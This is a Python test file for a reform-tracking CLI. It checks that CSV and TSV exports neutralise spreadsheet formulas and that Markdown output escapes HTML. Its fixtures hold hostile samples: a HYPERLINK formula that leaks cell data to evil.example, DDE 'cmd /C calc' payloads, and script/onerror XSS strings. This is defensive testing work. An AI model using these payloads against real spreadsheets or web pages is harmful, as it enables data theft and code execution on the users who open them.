"""No injection through output (issue 15, point 4): every CSV the tool prints or writes goes
through one neutralising writer, and Markdown escapes HTML.

Before: `--format csv` of list, due, audit, depts, status, notify --dry-run and diff printed
formulas raw (only `export` neutralised them), and `--format md` passed raw HTML through.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
import yaml
from seedfiles import SEED_YAML, seed_corpus
from typer.testing import CliRunner

from reformctl.cli import app
from reformctl.csvsafe import csv_text, neutralize

runner = CliRunner()

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
FORMULA_DEPT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_PLAN = "+1+cmd|' /C calc'!A0"
FORMULA_NOTE = "-2+3+cmd|' /C calc'!A0"
HTML_TITLE = "<img src=x onerror=alert(1)>推行<script>alert(2)</script>"


@pytest.fixture()
def hostile_corpus(tmp_path: Path) -> Path:
    """The seed with formulas in a measure title, a department name and a plan title, and a
    ledger note that is one; measure 3.8 (overdue on 2021-10-01) carries them."""
    corpus = seed_corpus(tmp_path / "corpus")
    data = yaml.safe_load(SEED_YAML.read_text(encoding="utf-8"))
    plan = data["plans"][2]
    plan["title"] = FORMULA_PLAN
    m = plan["measures"][7]
    assert m["id"] == "3.8"
    m["title"] = FORMULA_TITLE
    m["owners"][0]["lead"] = [FORMULA_DEPT]
    m["lead"] = [FORMULA_DEPT]
    (corpus / SEED_YAML.name).write_text(yaml.safe_dump(data, allow_unicode=True),
                                         encoding="utf-8")
    result = runner.invoke(app, ["status", "3.8", "in-progress", "--note", FORMULA_NOTE,
                                 "--corpus", str(corpus)])
    assert result.exit_code == 0, result.output
    return corpus


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
            for c in row]


def _assert_neutral(text: str, delimiter: str = ",") -> None:
    cells = _cells(text, delimiter)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                 and neutralize(c) != c]
    assert dangerous == [], dangerous[:5]
    assert any(c.startswith(("'=", "'+", "'-", "'@")) for c in cells), "no formula reached it"


COMMANDS = [
    ["list"],
    ["due", "--month", "7", "--as-of", "2021-10-01"],
    ["due", "--overdue", "--as-of", "2021-10-01", "--by", "dept"],
    ["audit", "--check", "overdue", "--as-of", "2021-10-01"],
    ["depts", "--as-of", "2021-10-01"],
    ["status"],
    ["notify", "--dry-run", "--as-of", "2021-10-01", "--fallback", "dcs@example.org"],
    ["export", "-f", "csv", "--as-of", "2021-10-01"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c[:2]) for c in COMMANDS])
@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_every_csv_is_neutralised(hostile_corpus: Path, command: list[str], fmt: str) -> None:
    if command[0] == "export" and fmt == "tsv":
        pytest.skip(f"{command[0]} has no tsv")
    args = [*command, "--corpus", str(hostile_corpus)]
    if command[0] != "export":
        args += ["--format", fmt]
    result = runner.invoke(app, args)
    assert result.exit_code in (0, 1), result.output
    _assert_neutral(result.stdout, "," if fmt == "csv" else "\t")


def test_diff_csv_is_neutralised(hostile_corpus: Path) -> None:
    result = runner.invoke(app, ["diff", str(SEED_YAML), str(hostile_corpus / SEED_YAML.name),
                                 "--format", "csv"])
    assert result.exit_code == 1, result.output
    _assert_neutral(result.stdout)


@pytest.mark.parametrize("command", [
    ["list"], ["due", "--month", "7", "--as-of", "2021-10-01"], ["status"],
    ["export", "-f", "md", "--as-of", "2021-10-01"],
])
def test_markdown_escapes_html(tmp_path: Path, command: list[str]) -> None:
    corpus = seed_corpus(tmp_path / "corpus")
    data: dict[str, Any] = yaml.safe_load(SEED_YAML.read_text(encoding="utf-8"))
    data["plans"][2]["measures"][7]["title"] = HTML_TITLE
    (corpus / SEED_YAML.name).write_text(yaml.safe_dump(data, allow_unicode=True),
                                         encoding="utf-8")
    runner.invoke(app, ["status", "3.8", "in-progress", "--corpus", str(corpus)])
    args = [*command, "--corpus", str(corpus)]
    if command[0] != "export":
        args += ["--format", "md"]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert "<script>" not in result.stdout and "<img" not in result.stdout
    assert "&lt;img src=x onerror=alert(1)&gt;推行&lt;script&gt;" in result.stdout


def test_the_writer() -> None:
    assert neutralize("=1+1") == "'=1+1"
    assert neutralize("-3") == "-3" and neutralize("+2.5") == "+2.5"
    assert neutralize("-3+cmd") == "'-3+cmd"
    assert neutralize("\t=1") == "'\t=1"
    assert neutralize("市财政局") == "市财政局"
    assert csv_text([["a", "@x"], ["=b", "c,d"]]) == "a,'@x\n'=b,\"c,d\"\n"
